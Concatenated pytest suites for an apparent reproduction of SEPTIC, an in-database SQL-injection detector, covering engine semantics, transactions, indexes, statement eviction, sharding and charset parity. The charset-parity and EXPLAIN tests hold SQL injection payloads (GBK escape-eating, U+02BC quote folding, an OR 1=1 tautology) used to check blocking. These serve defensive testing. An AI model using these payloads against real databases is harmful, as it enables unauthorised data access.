        with pytest.raises(SQLError):
            shop_conn.query_or_raise("SELECT * FROM nope")

    def test_statement_counters(self, shop):
        before = shop.statements_executed
        Connection(shop).query("SELECT 1")
        assert shop.statements_executed == before + 1

    def test_ambiguous_column(self, shop_conn):
        outcome = shop_conn.query(
            "SELECT id FROM products p JOIN orders o ON p.id = o.product_id"
        )
        assert not outcome.ok  # 'id' exists on both sides


class TestOrderedDml(object):
    def test_delete_order_by_limit(self, shop_conn):
        # delete the single cheapest product
        outcome = shop_conn.query(
            "DELETE FROM products ORDER BY price LIMIT 1"
        )
        assert outcome.affected_rows == 1
        remaining = rows(shop_conn, "SELECT name FROM products ORDER BY id")
        assert ("carrot",) not in remaining

    def test_delete_order_by_desc_limit(self, shop_conn):
        shop_conn.query("DELETE FROM products ORDER BY price DESC LIMIT 1")
        remaining = rows(shop_conn, "SELECT name FROM products ORDER BY id")
        assert ("donut",) not in remaining

    def test_update_order_by_limit(self, shop_conn):
        # discount the two most expensive products
        outcome = shop_conn.query(
            "UPDATE products SET price = 0.1 ORDER BY price DESC LIMIT 2"
        )
        assert outcome.affected_rows == 2
        cheap = rows(shop_conn,
                     "SELECT name FROM products WHERE price = 0.1 "
                     "ORDER BY name")
        assert cheap == [("apple",), ("donut",)]

    def test_delete_without_order_behaves_as_before(self, shop_conn):
        outcome = shop_conn.query("DELETE FROM orders LIMIT 2")
        assert outcome.affected_rows == 2
