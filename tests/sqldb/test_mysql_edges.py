"""MySQL behavioural edge cases: NULL ordering and arithmetic corners.

Two regression families the mutation-path sweep pinned down:

* ``ORDER BY`` over a NULL-bearing column must produce the same order
  whether the planner picks the bounded-heap TopK operator (``LIMIT n``)
  or the full Sort operator (no limit).  MySQL sorts NULL below every
  non-NULL value: NULLs come first ascending, last descending.
* ``%`` / ``MOD()`` take the sign of the dividend (C semantics, not
  Python's floored modulo), ``DIV`` truncates toward zero, and any zero
  divisor yields NULL rather than an error.
"""

import pytest

from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database


NULLS_SCHEMA = """
CREATE TABLE scores (
    id INT AUTO_INCREMENT PRIMARY KEY,
    pts INT
);
INSERT INTO scores (pts) VALUES (3), (NULL), (1), (NULL), (2);
"""


@pytest.fixture
def nulls_conn():
    database = Database()
    database.seed(NULLS_SCHEMA)
    return Connection(database)


def _pts(conn, sql):
    outcome = conn.query(sql)
    assert outcome.ok, outcome.error
    return outcome.result_set.column("pts")


class TestNullOrdering(object):
    """TopK (ORDER BY + LIMIT) must agree with Sort (no LIMIT)."""

    def test_asc_puts_nulls_first(self, nulls_conn):
        full = _pts(nulls_conn, "SELECT pts FROM scores ORDER BY pts")
        assert full == [None, None, 1, 2, 3]

    def test_desc_puts_nulls_last(self, nulls_conn):
        full = _pts(nulls_conn, "SELECT pts FROM scores ORDER BY pts DESC")
        assert full == [3, 2, 1, None, None]

    def test_topk_matches_sort_asc(self, nulls_conn):
        full = _pts(nulls_conn, "SELECT pts FROM scores ORDER BY pts")
        for n in range(1, 6):
            limited = _pts(
                nulls_conn,
                "SELECT pts FROM scores ORDER BY pts LIMIT %d" % n,
            )
            assert limited == full[:n]

    def test_topk_matches_sort_desc(self, nulls_conn):
        full = _pts(nulls_conn, "SELECT pts FROM scores ORDER BY pts DESC")
        for n in range(1, 6):
            limited = _pts(
                nulls_conn,
                "SELECT pts FROM scores ORDER BY pts DESC LIMIT %d" % n,
            )
            assert limited == full[:n]

    def test_secondary_key_breaks_null_ties(self, nulls_conn):
        outcome = nulls_conn.query(
            "SELECT id, pts FROM scores ORDER BY pts, id DESC LIMIT 2"
        )
        assert outcome.ok, outcome.error
        # both NULL rows (ids 2 and 4) sort first; id DESC breaks the tie
        assert outcome.result_set.rows == [(4, None), (2, None)]


class TestArithmeticEdges(object):
    """Sign-of-dividend %, truncating DIV, NULL on zero divisors."""

    @pytest.fixture
    def q(self, nulls_conn):
        def run(expression):
            outcome = nulls_conn.query("SELECT %s" % expression)
            assert outcome.ok, outcome.error
            return outcome.result_set.scalar()

        return run

    def test_percent_takes_sign_of_dividend(self, q):
        assert q("5 % -3") == 2
        assert q("-5 % 3") == -2
        assert q("-5 % -3") == -2
        assert q("5 % 3") == 2

    def test_percent_float_dividend_sign(self, q):
        assert q("-5.5 % 2") == -1.5
        assert q("5.5 % -2") == 1.5

    def test_mod_function_matches_operator(self, q):
        assert q("MOD(5, -3)") == 2
        assert q("MOD(-5, 3)") == -2
        assert q("MOD(-5, -3)") == -2

    def test_div_truncates_toward_zero(self, q):
        assert q("-7 DIV 2") == -3   # floored would give -4
        assert q("7 DIV -2") == -3
        assert q("-7 DIV -2") == 3
        assert q("7 DIV 2") == 3

    def test_zero_divisor_is_null_not_error(self, q):
        assert q("5 % 0") is None
        assert q("MOD(5, 0)") is None
        assert q("5 DIV 0") is None
        assert q("5.5 % 0") is None
