"""Tests for the item-stack primitives."""

from repro.sqldb.items import DATA_KINDS, Item, ItemKind


class TestItem(object):
    def test_equality_and_hash(self):
        a = Item(ItemKind.FIELD_ITEM, "name")
        b = Item(ItemKind.FIELD_ITEM, "name")
        c = Item(ItemKind.FIELD_ITEM, "other")
        assert a == b and hash(a) == hash(b)
        assert a != c
        assert a != ("FIELD_ITEM", "name")   # not equal to tuples

    def test_is_data_partition(self):
        assert Item(ItemKind.INT_ITEM, 1).is_data
        assert Item(ItemKind.STRING_ITEM, "x").is_data
        assert Item(ItemKind.NULL_ITEM, None).is_data
        assert not Item(ItemKind.FIELD_ITEM, "x").is_data
        assert not Item(ItemKind.FUNC_ITEM, "=").is_data
        assert not Item(ItemKind.FROM_TABLE, "t").is_data

    def test_repr_is_paper_format(self):
        assert repr(Item(ItemKind.COND_ITEM, "AND")) == "<COND_ITEM, AND>"

    def test_data_kinds_are_exactly_the_literal_kinds(self):
        assert DATA_KINDS == frozenset([
            ItemKind.INT_ITEM, ItemKind.REAL_ITEM, ItemKind.DECIMAL_ITEM,
            ItemKind.STRING_ITEM, ItemKind.NULL_ITEM, ItemKind.PARAM_ITEM,
        ])

    def test_element_kinds_disjoint_from_data_kinds(self):
        element_kinds = {
            value for name, value in vars(ItemKind).items()
            if not name.startswith("_") and isinstance(value, str)
        } - DATA_KINDS
        assert ItemKind.FIELD_ITEM in element_kinds
        assert not element_kinds & DATA_KINDS
