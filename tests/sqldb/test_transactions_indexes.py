"""Tests for transactions, secondary indexes and EXPLAIN."""

import pytest

from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database


@pytest.fixture
def bank():
    database = Database()
    database.seed(
        """
        CREATE TABLE accounts (
            id INT PRIMARY KEY AUTO_INCREMENT,
            owner VARCHAR(40),
            balance INT
        );
        INSERT INTO accounts (owner, balance) VALUES
            ('alice', 100), ('bob', 50), ('carol', 200);
        """
    )
    return database, Connection(database)


class TestTransactions(object):
    def test_commit_persists(self, bank):
        database, conn = bank
        conn.query("BEGIN")
        conn.query("UPDATE accounts SET balance = 0 WHERE owner = 'alice'")
        conn.query("COMMIT")
        rows = {r["owner"]: r for r in database.table("accounts").rows}
        assert rows["alice"]["balance"] == 0

    def test_rollback_restores_updates(self, bank):
        database, conn = bank
        conn.query("BEGIN")
        conn.query("UPDATE accounts SET balance = 0")
        conn.query("ROLLBACK")
        rows = {r["owner"]: r for r in database.table("accounts").rows}
        assert rows["alice"]["balance"] == 100
        assert rows["carol"]["balance"] == 200

    def test_rollback_restores_deletes_and_inserts(self, bank):
        database, conn = bank
        conn.query("START TRANSACTION")
        conn.query("DELETE FROM accounts WHERE owner = 'bob'")
        conn.query("INSERT INTO accounts (owner, balance) "
                   "VALUES ('dave', 10)")
        assert len(database.table("accounts")) == 3
        conn.query("ROLLBACK")
        owners = {r["owner"] for r in database.table("accounts").rows}
        assert owners == {"alice", "bob", "carol"}

    def test_rollback_restores_auto_increment(self, bank):
        database, conn = bank
        conn.query("BEGIN")
        conn.query("INSERT INTO accounts (owner, balance) "
                   "VALUES ('dave', 10)")
        conn.query("ROLLBACK")
        conn.query("INSERT INTO accounts (owner, balance) "
                   "VALUES ('erin', 20)")
        assert conn.last_insert_id == 4  # the id sequence rewound

    def test_rollback_without_begin_is_noop(self, bank):
        database, conn = bank
        assert conn.query("ROLLBACK").ok
        assert len(database.table("accounts")) == 3

    def test_begin_inside_transaction_implicitly_commits(self, bank):
        database, conn = bank
        conn.query("BEGIN")
        conn.query("UPDATE accounts SET balance = 1 WHERE owner = 'bob'")
        conn.query("BEGIN")      # implicit COMMIT of the first tx
        conn.query("ROLLBACK")   # only rolls back the (empty) second tx
        rows = {r["owner"]: r for r in database.table("accounts").rows}
        assert rows["bob"]["balance"] == 1

    def test_in_transaction_property(self, bank):
        database, conn = bank
        assert not database.in_transaction
        conn.query("BEGIN")
        assert database.in_transaction
        conn.query("COMMIT")
        assert not database.in_transaction

    def test_transaction_isolation_of_reads(self, bank):
        database, conn = bank
        conn.query("BEGIN")
        conn.query("UPDATE accounts SET balance = 999 "
                   "WHERE owner = 'alice'")
        # reads inside the tx see the change (read-your-writes)
        out = conn.query("SELECT balance FROM accounts "
                         "WHERE owner = 'alice'")
        assert out.result_set.scalar() == 999
        conn.query("ROLLBACK")
        out = conn.query("SELECT balance FROM accounts "
                         "WHERE owner = 'alice'")
        assert out.result_set.scalar() == 100


class TestIndexes(object):
    def test_create_and_drop(self, bank):
        database, conn = bank
        assert conn.query("CREATE INDEX idx_owner ON accounts (owner)").ok
        assert "idx_owner" in database.table("accounts").indexes
        assert conn.query("DROP INDEX idx_owner ON accounts").ok
        assert "idx_owner" not in database.table("accounts").indexes

    def test_create_duplicate_rejected(self, bank):
        _, conn = bank
        conn.query("CREATE INDEX i ON accounts (owner)")
        outcome = conn.query("CREATE INDEX i ON accounts (balance)")
        assert not outcome.ok and outcome.error.errno == 1061

    def test_create_on_missing_column(self, bank):
        _, conn = bank
        outcome = conn.query("CREATE INDEX i ON accounts (nope)")
        assert not outcome.ok and outcome.error.errno == 1072

    def test_drop_missing(self, bank):
        _, conn = bank
        outcome = conn.query("DROP INDEX nope ON accounts")
        assert not outcome.ok and outcome.error.errno == 1091

    def test_indexed_query_same_results(self, bank):
        _, conn = bank
        before = conn.query(
            "SELECT id FROM accounts WHERE owner = 'bob'"
        ).rows
        conn.query("CREATE INDEX idx_owner ON accounts (owner)")
        after = conn.query(
            "SELECT id FROM accounts WHERE owner = 'bob'"
        ).rows
        assert before == after == [(2,)]

    def test_index_sees_mutations(self, bank):
        database, conn = bank
        conn.query("CREATE INDEX idx_owner ON accounts (owner)")
        conn.query("SELECT id FROM accounts WHERE owner = 'bob'")  # warm
        conn.query("INSERT INTO accounts (owner, balance) "
                   "VALUES ('bob', 7)")
        out = conn.query("SELECT COUNT(*) FROM accounts "
                         "WHERE owner = 'bob'")
        assert out.result_set.scalar() == 2
        conn.query("UPDATE accounts SET owner = 'robert' "
                   "WHERE balance = 7")
        out = conn.query("SELECT COUNT(*) FROM accounts "
                         "WHERE owner = 'bob'")
        assert out.result_set.scalar() == 1
        conn.query("DELETE FROM accounts WHERE owner = 'bob'")
        out = conn.query("SELECT COUNT(*) FROM accounts "
                         "WHERE owner = 'bob'")
        assert out.result_set.scalar() == 0

    def test_primary_key_always_indexed(self, bank):
        database, _ = bank
        assert "id" in database.table("accounts").indexed_columns()

    def test_index_with_extra_conjuncts(self, bank):
        _, conn = bank
        conn.query("CREATE INDEX idx_owner ON accounts (owner)")
        out = conn.query(
            "SELECT id FROM accounts "
            "WHERE owner = 'alice' AND balance > 10"
        )
        assert out.rows == [(1,)]

    def test_string_index_case_insensitive(self, bank):
        _, conn = bank
        conn.query("CREATE INDEX idx_owner ON accounts (owner)")
        out = conn.query("SELECT id FROM accounts WHERE owner = 'ALICE'")
        assert out.rows == [(1,)]


class TestExplain(object):
    def test_full_scan(self, bank):
        _, conn = bank
        out = conn.query("EXPLAIN SELECT * FROM accounts "
                         "WHERE balance > 10")
        assert out.rows == [("accounts", "ALL", None, 3)]

    def test_index_access(self, bank):
        _, conn = bank
        conn.query("CREATE INDEX idx_owner ON accounts (owner)")
        out = conn.query("EXPLAIN SELECT * FROM accounts "
                         "WHERE owner = 'bob'")
        assert out.rows == [("accounts", "ref", "owner", 3)]

    def test_primary_key_access(self, bank):
        _, conn = bank
        out = conn.query("EXPLAIN SELECT * FROM accounts WHERE id = 1")
        assert out.rows[0][1] == "ref"

    def test_join_tables_listed(self, bank):
        database, conn = bank
        database.seed("CREATE TABLE logs (account_id INT, what TEXT)")
        out = conn.query(
            "EXPLAIN SELECT * FROM accounts a "
            "JOIN logs l ON a.id = l.account_id"
        )
        assert [row[0] for row in out.rows] == ["accounts", "logs"]

    def test_explain_goes_through_septic(self):
        """EXPLAIN carries the SELECT's structure, so SEPTIC models it
        like the underlying query (no blind spot through EXPLAIN)."""
        from repro.core.septic import Mode, Septic

        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        database.seed("CREATE TABLE t (a INT)")
        conn = Connection(database)
        conn.query("/* septic:s:1 */ SELECT * FROM t WHERE a = 1")
        septic.mode = Mode.PREVENTION
        outcome = conn.query(
            "/* septic:s:1 */ EXPLAIN SELECT * FROM t WHERE a = 1 OR 1=1"
        )
        assert not outcome.ok
