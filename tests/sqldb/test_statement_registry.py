"""The per-connection prepared-statement registry is bounded: a client
that prepares forever (or leaks handles) evicts its own oldest
statements instead of growing the server without limit.  Evicted
handles answer like closed ones — errno 1243 — and the wire front end
surfaces the eviction count through ``Septic.status()["net"]``."""

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.net.client import NetClient
from repro.net.server import NetServer
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

SCHEMA = """
CREATE TABLE tickets (
    id INT PRIMARY KEY AUTO_INCREMENT,
    reservID VARCHAR(20)
);
INSERT INTO tickets (reservID) VALUES ('ID34FG'), ('ZZ11AA');
"""


def make_conn(max_statements=None):
    database = Database()
    database.seed(SCHEMA)
    return Connection(database, max_statements=max_statements)


class TestRegistryCap(object):
    def test_lru_eviction_beyond_the_cap(self):
        conn = make_conn(max_statements=3)
        handles = [
            conn.prepare_statement(
                "SELECT reservID FROM tickets WHERE id = %d" % index
            )[0]
            for index in range(5)
        ]
        assert len(conn.open_statements) == 3
        assert conn.statement_evictions == 2
        # oldest two are gone, newest three survive
        assert set(conn.open_statements) == set(handles[2:])

    def test_evicted_handle_answers_like_a_closed_one(self):
        conn = make_conn(max_statements=1)
        first, _ = conn.prepare_statement(
            "SELECT reservID FROM tickets WHERE id = ?")
        conn.prepare_statement("SELECT COUNT(*) FROM tickets")
        outcome = conn.execute_statement(first, (1,))
        assert outcome.error is not None
        assert outcome.error.errno == 1243

    def test_execute_refreshes_recency(self):
        conn = make_conn(max_statements=2)
        keeper, _ = conn.prepare_statement(
            "SELECT reservID FROM tickets WHERE id = ?")
        conn.prepare_statement("SELECT COUNT(*) FROM tickets")
        # touching the oldest promotes it: the *other* one is evicted
        assert conn.execute_statement(keeper, (1,)).ok
        conn.prepare_statement("SELECT id FROM tickets")
        assert keeper in conn.open_statements
        assert conn.statement_evictions == 1
        assert conn.execute_statement(keeper, (2,)).ok

    def test_default_cap_is_the_class_attribute(self):
        conn = make_conn()
        assert conn.max_statements == Connection.MAX_STATEMENTS
        assert Connection(conn.database, max_statements=0) \
            .max_statements == 1


class TestWireSurface(object):
    def test_evictions_show_up_in_septic_status(self):
        septic = Septic(mode=Mode.TRAINING, logger=SepticLogger())
        database = Database(septic=septic)
        database.seed(SCHEMA)
        septic.bound_database = database
        with NetServer(database, max_statements=2) as server:
            with NetClient(server.host, server.port) as client:
                handles = [
                    client.prepare(
                        "SELECT reservID FROM tickets WHERE id = %d"
                        % index)
                    for index in range(4)
                ]
                # the evicted oldest handle errors exactly like a
                # closed one over the wire
                outcome = client.execute(handles[0])
                assert outcome.error is not None
                assert outcome.error.errno == 1243
                assert client.execute(handles[-1]).ok
            stats = server.stats_dict()
            assert stats["stmt_evictions"] == 2
            net = septic.status()["net"]
            assert net["stmt_evictions"] == 2
