"""ShardRouter: routing kinds, DDL fan-out + epoch bumps, blocked
scatter abort, multi-shard rejection, and failover self-healing."""

import pytest

from repro.benchlab.crashsweep import MarkerSeptic
from repro.shard import ShardRouter
from repro.sqldb.errors import ExecutionError, QueryBlocked


def make_router(tmp_path, shards=2, **kwargs):
    kwargs.setdefault("replicas", 1)
    kwargs.setdefault("heartbeat_interval", 1)
    kwargs.setdefault("lease_intervals", 2)
    kwargs.setdefault("septic_factory", MarkerSeptic)
    return ShardRouter(str(tmp_path / "fleet"), shards=shards, **kwargs)


OWNERS = ["alice", "bob", "carol", "dave", "erin", "frank"]


def seed_accounts(router):
    router.query_or_raise(
        "CREATE TABLE accounts (owner VARCHAR(12) PRIMARY KEY, "
        "amount INT)")
    for index, owner in enumerate(OWNERS):
        router.query_or_raise(
            "INSERT INTO accounts (owner, amount) VALUES ('%s', %d)"
            % (owner, (index + 1) * 10))


class TestRoutingKinds(object):
    def test_keyed_statements_run_on_exactly_one_shard(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        # every row landed on the shard the catalog says it belongs to
        per_shard = [
            {row["owner"] for row in
             router.primary_database(shard).tables["accounts"].rows}
            for shard in range(2)
        ]
        for owner in OWNERS:
            home = router.catalog.shard_for("accounts", owner)
            assert owner in per_shard[home]
            assert owner not in per_shard[1 - home]
        # keyed read goes straight to the home shard, original SQL text
        outcome = router.query_or_raise(
            "SELECT amount FROM accounts WHERE owner = 'carol'")
        assert outcome.rows == [(30,)]
        assert router.stats["single_shard"] == len(OWNERS) + 1
        router.close()

    def test_scatter_union_aggregate_and_topk(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        rows = router.query_or_raise(
            "SELECT owner, amount FROM accounts").rows
        assert sorted(rows) == [(o, (i + 1) * 10)
                                for i, o in sorted(enumerate(OWNERS),
                                                   key=lambda p: p[1])]
        agg = router.query_or_raise(
            "SELECT COUNT(*), SUM(amount), AVG(amount) FROM accounts")
        assert agg.rows == [(6, 210, 35.0)]
        top = router.query_or_raise(
            "SELECT owner, amount FROM accounts "
            "ORDER BY amount DESC LIMIT 2")
        assert top.rows == [("frank", 60), ("erin", 50)]
        assert router.stats["scatter"] == 3
        # merge-TopK materialized the heap, not the table
        assert router.last_gather_stats.peak_materialized_rows <= 2
        router.close()

    def test_pinned_table_lives_whole_on_shard_zero(self, tmp_path):
        router = make_router(tmp_path)
        router.query_or_raise(
            "CREATE TABLE logs (id INT AUTO_INCREMENT PRIMARY KEY, "
            "line VARCHAR(40))")
        for index in range(3):
            router.query_or_raise(
                "INSERT INTO logs (line) VALUES ('l%d')" % index)
        assert router.stats["pinned"] == 3
        assert len(router.primary_database(0).tables["logs"].rows) == 3
        # the CREATE broadcast put the schema everywhere, but every row
        # routed to shard 0
        assert router.primary_database(1).tables["logs"].rows == []
        router.close()

    def test_route_cache_hits_and_epoch_invalidation(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        sql = "SELECT COUNT(*) FROM accounts"
        router.query_or_raise(sql)
        before = router.stats["route_cache_hits"]
        router.query_or_raise(sql)
        assert router.stats["route_cache_hits"] == before + 1
        # DDL bumps the epoch: the cached route may not survive
        epoch = router.catalog_epoch
        router.query_or_raise("ALTER TABLE accounts ADD COLUMN note INT")
        assert router.catalog_epoch > epoch
        hits = router.stats["route_cache_hits"]
        outcome = router.query_or_raise("SELECT owner, note FROM accounts "
                                        "WHERE owner = 'alice'")
        assert outcome.rows == [("alice", None)]
        assert router.stats["route_cache_hits"] == hits
        router.close()


class TestBroadcastDDL(object):
    def test_ddl_lands_on_every_shard(self, tmp_path):
        router = make_router(tmp_path, shards=3)
        router.query_or_raise(
            "CREATE TABLE t (k VARCHAR(8) PRIMARY KEY, v INT)")
        for shard in range(3):
            assert "t" in router.primary_database(shard).tables
        assert router.stats["broadcast"] == 1
        assert router.catalog.shard_key("t") == "k"
        router.query_or_raise("DROP TABLE t")
        for shard in range(3):
            assert "t" not in router.primary_database(shard).tables
        router.close()


class TestRejections(object):
    def test_multi_shard_update_is_rejected_at_plan_time(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        outcome = router.query("UPDATE accounts SET amount = 0")
        assert isinstance(outcome.error, ExecutionError)
        assert outcome.error.errno == 1235
        # zero partial effects: nothing moved on any shard
        rows = router.query_or_raise(
            "SELECT SUM(amount) FROM accounts").rows
        assert rows == [(210,)]
        router.close()

    def test_keyed_update_still_works(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        router.query_or_raise(
            "UPDATE accounts SET amount = 99 WHERE owner = 'bob'")
        assert router.query_or_raise(
            "SELECT amount FROM accounts WHERE owner = 'bob'"
        ).rows == [(99,)]
        router.close()

    def test_transactions_are_rejected(self, tmp_path):
        router = make_router(tmp_path)
        outcome = router.query("BEGIN")
        assert outcome.error.errno == 1235
        router.close()

    def test_insert_without_shard_key_is_rejected(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        outcome = router.query("INSERT INTO accounts (amount) VALUES (1)")
        assert outcome.error.errno == 1235
        router.close()


class TestSepticPerShard(object):
    def test_blocked_scatter_aborts_whole_statement(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        outcome = router.query(
            "SELECT COUNT(*) FROM accounts WHERE owner != 'evil'")
        assert isinstance(outcome.error, QueryBlocked)
        assert outcome.error.errno == 3090
        # the gather unwound at the first shard's verdict: at most one
        # shard ever saw the statement
        blocked = [router.primary_database(s).septic.blocked
                   for s in range(2)]
        assert sum(blocked) == 1
        router.close()

    def test_blocked_single_shard_write_has_no_effects(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        outcome = router.query(
            "UPDATE accounts SET amount = 666 "
            "WHERE owner = 'alice' -- evil")
        assert isinstance(outcome.error, QueryBlocked)
        assert router.query_or_raise(
            "SELECT amount FROM accounts WHERE owner = 'alice'"
        ).rows == [(10,)]
        router.close()


class TestFailover(object):
    def test_scatter_read_rides_a_primary_failover(self, tmp_path):
        router = make_router(tmp_path)
        seed_accounts(router)
        router.ship()
        victim_owner = OWNERS[0]
        victim = router.catalog.shard_for("accounts", victim_owner)
        router.kill_primary(victim)
        # reads ride immediately: the caught-up replica serves the
        # scatter without waiting for an election, zero lost rows
        outcome = router.query_or_raise(
            "SELECT COUNT(*), SUM(amount) FROM accounts")
        assert outcome.rows == [(6, 210)]
        # a write to the dead shard retries in virtual ticks until the
        # lease expires and a survivor is promoted
        router.query_or_raise(
            "UPDATE accounts SET amount = amount + 1 "
            "WHERE owner = '%s'" % victim_owner)
        assert router.shard_sets[victim].promotions == 1
        assert router.query_or_raise(
            "SELECT SUM(amount) FROM accounts").rows == [(211,)]
        router.close()


def test_status_shape(tmp_path):
    router = make_router(tmp_path)
    seed_accounts(router)
    status = router.status()
    assert status["shards"] == 2
    assert status["tables"] == ["accounts"]
    assert status["catalog_epoch"] >= 1
    assert all(name is not None for name in status["primaries"])
    assert status["stats"]["single_shard"] == len(OWNERS)
    router.close()
