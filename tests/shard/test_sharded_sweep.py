"""Smoke coverage for the sharded crash sweep (the full 3-seed sweep
runs in ``benchmarks/bench_sharded_scaleout.py``)."""

from repro.benchlab.crashsweep import (
    ShardedSweepResult,
    format_sharded_result,
    generate_sharded_workload,
    run_sharded_sweep,
)


class TestWorkload(object):
    def test_deterministic_per_seed(self):
        assert (generate_sharded_workload(5)
                == generate_sharded_workload(5))
        assert (generate_sharded_workload(5)
                != generate_sharded_workload(6))

    def test_shape(self):
        ops = generate_sharded_workload(5, writes=8)
        kinds = [kind for kind, _sql in ops]
        assert kinds.count("w") == 9  # CREATE TABLE + 8 DML boundaries
        assert kinds.count("x") == 2  # blocked write + blocked scatter
        assert kinds.count("r") >= 1
        assert ops[0][1].startswith("CREATE TABLE accounts")


def test_sweep_is_clean(tmp_path):
    result = run_sharded_sweep(str(tmp_path), seed=3, shards=2,
                               replicas=1, writes=4)
    assert isinstance(result, ShardedSweepResult)
    assert result.boundaries == 5
    assert result.kills == result.boundaries * 2
    assert result.promotions == result.kills
    assert result.scatter_reads == result.kills
    assert result.ok, format_sharded_result(result)
    assert "verdict: OK" in format_sharded_result(result)
