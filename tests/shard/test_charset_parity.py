"""Charset semantics must be byte-identical on every shard.

SEPTIC runs inside each shard, after that shard's own connection-charset
decode — the paper's placement, fanned out.  If one shard decoded the
GBK escape-eating payload differently from another (or folded U+02BC
differently), an attacker could aim at the permissive shard.  These
tests seed identical rows on every shard, train each shard's *real*
SEPTIC on the same benign template, and hold every shard — at 1, 2 and
4 shards — to the exact same verdict for both §II-D payloads, through
the router's own per-shard connections.
"""

import pytest

from repro.core.septic import Mode, Septic
from repro.core.store import QMStore
from repro.shard import ShardRouter
from repro.sqldb.connection import Connection

#: the §II-D1 second-order payload: U+02BC folds to a live quote
FOLDING_PAYLOAD = "ID34FGʼ-- "

#: the classic GBK shape: 0xBF + escaped quote -> merged char + live quote
GBK_PAYLOAD = "¿\\' OR '1'='1"

#: the app's call site carries an external identifier, so SEPTIC
#: compares a mutated structure against the trained model instead of
#: filing it as merely unknown
TEMPLATE = ("/* septic:tickets.lookup */ SELECT reservID, creditCard "
            "FROM tickets WHERE reservID = '%s'")

SEED_SQL = """
CREATE TABLE tickets (
    id INT PRIMARY KEY AUTO_INCREMENT,
    reservID VARCHAR(20),
    creditCard INT
);
INSERT INTO tickets (reservID, creditCard) VALUES
    ('ID34FG', 1234), ('ZZ11AA', 9999), ('QQ77MM', 4321);
"""


def make_fleet(tmp_path, shards, charset):
    """A fleet whose every shard runs a real trained SEPTIC in
    PREVENTION, with identical tickets rows seeded on every shard."""
    router = ShardRouter(
        str(tmp_path / "fleet"), shards=shards, replicas=1,
        charset=charset,
        septic_factory=lambda: Septic(mode=Mode.TRAINING, store=QMStore()),
    )
    for shard in range(shards):
        database = router.primary_database(shard)
        conn = Connection(database, charset=charset,
                          multi_statements=True)
        conn.query_or_raise(SEED_SQL)
        # train on the benign shape, then arm
        conn.query_or_raise(TEMPLATE % "ID34FG")
        database.septic.mode = Mode.PREVENTION
    return router


def verdict(connection, sql):
    outcome = connection.query(sql)
    if outcome.error is not None:
        return ("error", outcome.error.errno)
    return [tuple(row) for row in outcome.rows]


@pytest.mark.parametrize("shards", [1, 2, 4])
class TestVerdictParityAcrossShards(object):
    def test_gbk_escape_eating_blocks_identically(self, tmp_path, shards):
        router = make_fleet(tmp_path, shards, charset="gbk")
        sql = TEMPLATE % GBK_PAYLOAD
        verdicts = [verdict(conn, sql) for conn in router.connections]
        assert len(set(map(repr, verdicts))) == 1
        # and the shared verdict is the right one: under gbk the decode
        # turns the payload into a tautology, structurally unlike the
        # trained model -> blocked on every shard
        assert verdicts[0] == ("error", 3090)
        router.close()

    def test_u02bc_folding_goes_live_identically(self, tmp_path, shards):
        router = make_fleet(tmp_path, shards, charset="utf8")
        sql = TEMPLATE % FOLDING_PAYLOAD
        verdicts = [verdict(conn, sql) for conn in router.connections]
        assert len(set(map(repr, verdicts))) == 1
        # the fold closes the literal early and comments out the tail —
        # the post-decode structure is *identical* to the trained shape,
        # so SEPTIC (correctly, per the paper) has nothing to flag; the
        # parity contract is that every shard decodes it the same way
        assert verdicts[0] == [("ID34FG", 1234)]
        router.close()

    def test_benign_template_answers_identically(self, tmp_path, shards):
        router = make_fleet(tmp_path, shards, charset="utf8")
        sql = TEMPLATE % "ID34FG"
        verdicts = [verdict(conn, sql) for conn in router.connections]
        assert len(set(map(repr, verdicts))) == 1
        assert verdicts[0] == [("ID34FG", 1234)]
        router.close()

    def test_strict_charset_keeps_payload_inert_everywhere(self, tmp_path,
                                                           shards):
        router = make_fleet(tmp_path, shards, charset="utf8_strict")
        sql = TEMPLATE % FOLDING_PAYLOAD
        verdicts = [verdict(conn, sql) for conn in router.connections]
        assert len(set(map(repr, verdicts))) == 1
        # no fold: the payload stays data, matches the trained shape,
        # and simply finds no row — on every shard
        assert verdicts[0] == []
        router.close()
