"""ShardCatalog: key declarations, DDL tracking, and the partitioning
function's equality-folding contract."""

import pytest

from repro.shard.catalog import ShardCatalog
from repro.sqldb.parser import parse_one


def observe(catalog, sql):
    catalog.observe_ddl(parse_one(sql))


class TestPartitioningFunction(object):
    def test_hash_folds_the_engine_equalities(self):
        catalog = ShardCatalog(4)
        # case-insensitive strings: WHERE owner = 'Alice' must hit the
        # shard the row for 'alice' went to
        assert catalog.shard_of("Alice") == catalog.shard_of("alice")
        assert catalog.shard_of("ALICE") == catalog.shard_of("alice")
        # numeric widening: 1 = 1.0 = TRUE in the engine
        assert catalog.shard_of(1) == catalog.shard_of(1.0)
        assert catalog.shard_of(True) == catalog.shard_of(1)
        assert catalog.shard_of(0) == catalog.shard_of(False)

    def test_hash_is_stable_and_spreads(self):
        catalog = ShardCatalog(4)
        keys = ["user%04d" % index for index in range(256)]
        placed = [catalog.shard_of(key) for key in keys]
        assert placed == [catalog.shard_of(key) for key in keys]
        # every shard gets a share of a uniform keyspace
        assert set(placed) == {0, 1, 2, 3}

    def test_distinct_values_can_differ(self):
        catalog = ShardCatalog(2)
        placed = {catalog.shard_of("user%04d" % i) for i in range(64)}
        assert placed == {0, 1}

    def test_single_shard_degenerates(self):
        catalog = ShardCatalog(1)
        assert catalog.shard_of("anything") == 0
        with pytest.raises(ValueError):
            ShardCatalog(0)


class TestDeclarations(object):
    def test_create_table_defaults_to_non_auto_primary_key(self):
        catalog = ShardCatalog(2)
        observe(catalog, "CREATE TABLE accounts (owner VARCHAR(12) "
                         "PRIMARY KEY, amount INT)")
        assert catalog.shard_key("accounts") == "owner"
        assert catalog.columns("ACCOUNTS") == ["owner", "amount"]

    def test_auto_increment_primary_key_pins_the_table(self):
